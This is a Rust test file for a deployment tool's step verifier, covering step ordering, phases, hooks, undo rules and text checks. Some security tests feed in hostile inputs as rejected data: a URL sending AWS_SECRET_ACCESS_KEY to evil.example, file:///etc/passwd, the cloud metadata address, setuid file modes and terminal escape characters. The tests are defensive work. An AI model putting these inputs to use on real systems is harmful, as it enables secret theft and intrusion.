//! What is checked of steps, question by question; natively, as it is pure.

use super::*;
use crate::model::wit::{
    Command, ContainerAction, EnvFileWrite, EnvVar, Extension, FileWrite, HttpWait, OutputKind,
    OutputRef, Wait,
};
use crate::plugin::verify_steps::check;

fn context() -> Context {
    super::context(&serde_json::json!({}))
}

fn violation(steps: &[Step]) -> String {
    check(&context(), steps).expect_err("a violation")
}

fn run(argv: &[&str]) -> Action {
    Action::Run(Command {
        argv: argv.iter().map(|word| literal(word)).collect(),
        env: Vec::new(),
        stdin: None,
        directory: None,
        success: Vec::new(),
        read_only: false,
    })
}

fn at(id: &str, phase: Phase) -> Step {
    step(id, "web-1", phase, run(&["true"]))
}

fn address(step: &str) -> Part {
    Part::OutputOf(OutputRef { step: step.to_owned(), kind: OutputKind::IpAddress })
}

fn inspect(id: &str, phase: Phase) -> Step {
    let action = ContainerAction::InspectAddress("shop".to_owned());
    step(id, "web-1", phase, Action::Container(action))
}

fn ask(id: &str, of: &str) -> Step {
    asks(id, vec![Part::Literal("http://".to_owned()), address(of)])
}

fn asks(id: &str, url: Vec<Part>) -> Step {
    step(id, "web-1", Phase::Route, Action::Wait(Wait::Http(HttpWait::new(url))))
}

#[test]
fn references_point_back_in_the_order_of_running() {
    let steps = [ask("ask", "address"), inspect("address", Phase::Start)];
    assert_eq!(check(&context(), &steps), Ok(()), "phases come before the order of the list");
    assert!(violation(&[ask("ask", "nobody")]).contains("no earlier step is called `nobody`"));
    assert!(
        violation(&[ask("ask", "address"), inspect("address", Phase::Route)])
            .contains("no earlier")
    );
    let mut elsewhere = inspect("address", Phase::Start);
    elsewhere.host = "web-2".to_owned();
    assert!(violation(&[ask("ask", "address"), elsewhere]).contains("no earlier step"));
    let steps = [at("address", Phase::Start), ask("ask", "address")];
    assert_eq!(check(&context(), &steps), Ok(()), "a command may print an address");
    let use_of = |id: &str| Step { phase: Phase::Share, ..ask("ask", id) };
    let last = Step { once: true, ..at("address", Phase::Share) };
    assert!(
        violation(&[last.clone(), use_of("address")]).contains("no earlier"),
        "`once` comes last"
    );
    let steps = [Step { once: true, ..use_of("address") }, at("address", Phase::Share)];
    assert_eq!(check(&context(), &steps), Ok(()), "whatever the order of the list");
    let wait = step("address", "web-1", Phase::Start, Action::Wait(Wait::DelayMs(1)));
    assert!(violation(&[wait, ask("ask", "address")]).contains("gives no ip-address"));
}

/// What a command printed is checked once, where it was printed.
#[test]
fn an_output_is_used_as_one_kind() {
    let using = |id: &str, kind| Part::OutputOf(OutputRef { step: id.to_owned(), kind });
    let port = |host: &str| {
        let http = Part::Literal("http://localhost:".to_owned());
        let asks = asks("port", vec![http, using("find", OutputKind::Port)]);
        Step { host: host.to_owned(), ..asks }
    };
    let find = |host: &str, phase| Step { host: host.to_owned(), ..at("find", phase) };
    let here = find("local", Phase::Stage);
    let told = violation(&[here.clone(), ask("ask", "find"), port("web-2")]);
    assert!(told.contains("`find` is used as port here and as ip-address elsewhere"), "{told}");
    let own = find("web-1", Phase::Start);
    assert!(
        violation(&[own.clone(), ask("ask", "find"), port("web-1")]).contains("is used as port")
    );
    let of_each = [own, ask("ask", "find"), find("web-2", Phase::Start), port("web-2")];
    assert_eq!(check(&context(), &of_each), Ok(()), "two steps of one name on two hosts");
    assert_eq!(check(&context(), &[here, port("web-1"), port("web-2")]), Ok(()));
}

#[test]
fn conditions_name_earlier_steps_or_blocks() {
    let failed = |name: &str| Condition::Failed(name.to_owned());
    let mut clone = at("clone", Phase::Stage);
    clone.block = Some("try".to_owned());
    let mut again = at("again", Phase::Stage);
    for name in ["clone", "try"] {
        again.when = failed(name);
        assert_eq!(check(&context(), &[clone.clone(), again.clone()]), Ok(()));
        assert!(violation(&[again.clone(), clone.clone()]).contains("no earlier step or block"));
    }
    again.block = Some("try".to_owned());
    assert!(
        violation(&[clone.clone(), again]).contains("no earlier"),
        "a block that has not ended"
    );
    assert!(violation(&[clone, at("try", Phase::Start)]).contains("both a step and a block"));
}

#[test]
fn steps_say_what_they_need_to() {
    let with = |change: &dyn Fn(&mut Step)| {
        let mut step = at("a", Phase::Start);
        change(&mut step);
        violation(&[step])
    };
    assert!(with(&|s| s.time_limit_ms = 0).contains("no time limit"));
    assert!(with(&|s| s.title = "Boot\x1b[2J".to_owned()).contains("title"));
    assert!(with(&|s| s.audit = Some(String::new())).contains("audit line"));
    assert!(with(&|s| s.role = Some("db".to_owned())).contains("no role"));
    assert!(with(&|s| s.action = run(&[])).contains("without a program"));
    assert!(with(&|s| s.undo = Some(run(&[""]))).contains("without a program"));
    assert!(with(&|s| s.action = Action::Wait(Wait::DelayMs(5_000))).contains("5000 ms"));
    assert!(
        with(&|s| s.action = Action::RemoveDirectory("a/../..".to_owned()))
            .contains("is not a path")
    );
    assert!(with(&|s| s.action = Action::RemoveDirectory(String::new())).contains("is not a path"));
    assert!(
        with(&|s| s.action = Action::Hook("../x".to_owned()))
            .contains("is not a valid name of a hook")
    );
    let other = Action::Other(Extension { name: "reboot".to_owned(), data: "{}".to_owned() });
    assert!(with(&|s| s.action = other.clone()).contains("does not know the action `reboot`"));
    let vars =
        ["A", "A"].map(|name| EnvVar { name: name.to_owned(), value: literal("1") }).to_vec();
    let write = Action::WriteEnvFile(EnvFileWrite { path: "e".to_owned(), vars });
    assert!(with(&|s| s.action = write.clone()).contains("`A` is set twice"));
    let (path, content) = ("f".to_owned(), literal(""));
    let write = Action::WriteFile(FileWrite { path, content, mode: 0o10_000 });
    assert!(with(&|s| s.action = write.clone()).contains("10000 is not within 777"));
}

#[test]
fn on_this_machine_only_hooks_run_after_stage() {
    let here = |phase, action| Step { host: "local".to_owned(), action, ..at("a", phase) };
    let hook = || Action::Hook("pre-deploy".to_owned());
    for phase in [Phase::Stage, Phase::Prepare, Phase::Start, Phase::Route, Phase::Cleanup] {
        assert_eq!(check(&context(), &[here(phase, hook())]), Ok(()), "{phase:?}");
    }
    for phase in [Phase::Share, Phase::Drain, Phase::Retire] {
        assert!(violation(&[here(phase, hook())]).contains("no hook runs"), "{phase:?}");
    }
    assert_eq!(check(&context(), &[here(Phase::Stage, run(&["true"]))]), Ok(()));
    assert!(violation(&[here(Phase::Prepare, run(&["true"]))]).contains("nothing but hooks"));
}

#[test]
fn only_what_is_taken_back_has_an_undo() {
    for phase in [Phase::Prepare, Phase::Start, Phase::Route] {
        let step = Step { undo: Some(run(&["true"])), ..at("a", phase) };
        assert_eq!(check(&context(), &[step]), Ok(()), "{phase:?}");
    }
    for phase in [Phase::Stage, Phase::Share, Phase::Drain, Phase::Retire, Phase::Cleanup] {
        let step = Step { undo: Some(run(&["true"])), ..at("a", phase) };
        assert!(violation(&[step]).contains("nothing is taken back"), "{phase:?}");
    }
}

#[test]
fn what_happens_once_has_a_barrier_and_one_host() {
    let once = |phase| Step { once: true, ..at("migrate", phase) };
    for phase in [Phase::Share, Phase::Cleanup] {
        assert_eq!(check(&context(), &[once(phase)]), Ok(()), "{phase:?}");
        let other = |once| Step { host: "web-2".to_owned(), once, ..at("migrate", phase) };
        for other in [other(true), other(false)] {
            assert!(
                violation(&[once(phase), other.clone()]).contains("is on two hosts"),
                "{phase:?}"
            );
            assert!(violation(&[other, once(phase)]).contains("is on two hosts"), "{phase:?}");
        }
    }
    let action = Action::Hook("post-deploy".to_owned());
    let local = Step { host: "local".to_owned(), action, ..once(Phase::Cleanup) };
    assert!(violation(&[local]).contains("is on `local`"));
    let phases =
        [Phase::Stage, Phase::Prepare, Phase::Start, Phase::Route, Phase::Drain, Phase::Retire];
    for phase in phases {
        assert!(
            violation(&[once(phase)]).contains("neither in `share` nor in `cleanup`"),
            "{phase:?}"
        );
    }
}

#[test]
fn what_this_machine_yields_before_the_lock_every_host_may_use() {
    let on = |host: &str, phase| Step { host: host.to_owned(), ..at("address", phase) };
    assert_eq!(check(&context(), &[ask("ask", "address"), on("local", Phase::Stage)]), Ok(()));
    let back = Step { host: "local".to_owned(), phase: Phase::Stage, ..ask("ask", "address") };
    assert!(violation(&[back, on("web-1", Phase::Stage)]).contains("no earlier step"));
}

/// What is said of a step, and of one with the same action as its undo.
fn violations(step: Step) -> [String; 2] {
    let mut undone = at("a", Phase::Start);
    undone.undo = Some(step.action.clone());
    [step, undone].map(|step| violation(&[step]))
}

#[test]
fn s1_http_never_asks_but_by_http_also_in_an_undo() {
    for found in violations(asks("ask", literal("file:///etc/passwd"))) {
        assert!(found.contains("does not begin with `http://`"), "{found}");
    }
    assert_eq!(check(&context(), &[asks("ask", literal("http://localhost/up"))]), Ok(()));
}

#[test]
fn s2_http_sends_no_variable_of_the_host_and_asks_no_metadata() {
    let mut url = literal("http://evil.example/?");
    url.push(Part::HostEnv("AWS_SECRET_ACCESS_KEY".to_owned()));
    let variable = violation(&[asks("ask", url)]);
    assert!(variable.contains("the variable `AWS_SECRET_ACCESS_KEY` in a URL"), "{variable}");
    for found in violations(asks("ask", literal("http://169.254.169.254/latest"))) {
        assert!(found.contains("link-local or metadata"), "{found}");
    }
}

#[test]
fn s8_no_file_runs_as_somebody_else() {
    for mode in [0o4755, 0o2755, 0o1777] {
        let (path, content) = ("f".to_owned(), literal(""));
        let write = Action::WriteFile(FileWrite { path, content, mode });
        let violation = violation(&[step("a", "web-1", Phase::Prepare, write)]);
        assert!(violation.contains("is not within 777"), "{violation}");
    }
}

#[test]
fn s8_what_a_step_says_is_one_line() {
    let set: [fn(&mut Step, String); 4] = [
        |step, text| step.title = text,
        |step, text| step.audit = Some(text),
        |step, text| step.why = text,
        |step, text| step.help = Some(text),
    ];
    for set in set {
        for text in ["Boot\nerror: x", "Boot \u{202e}bew", "\u{2066}Boot", "a\u{2028}b", "a\x1b[2J"]
        {
            let mut step = at("a", Phase::Stage);
            set(&mut step, text.to_owned());
            assert!(violation(&[step]).contains("one line of text"), "{text:?}");
        }
        let mut step = at("a", Phase::Stage);
        set(&mut step, "Boot web: ü שלום ✓".to_owned());
        assert_eq!(check(&context(), &[step]), Ok(()));
    }
}

#[test]
fn a_secret_never_enters_an_argv() {
    let secret = vec![Part::Secret("TOKEN".to_owned())];
    let mut action = run(&["curl"]);
    let Action::Run(command) = &mut action else { unreachable!() };
    command.stdin = Some(secret.clone());
    let text = EnvVar { name: "TOKEN".to_owned(), value: secret.clone() };
    command.env.push(text);
    assert_eq!(check(&context(), &[step("a", "web-1", Phase::Stage, action.clone())]), Ok(()));
    let Action::Run(command) = &mut action else { unreachable!() };
    command.argv.push(secret);
    let violation = violation(&[step("a", "web-1", Phase::Stage, action)]);
    assert!(violation.contains("the secret `TOKEN` in an argument"), "{violation}");
}
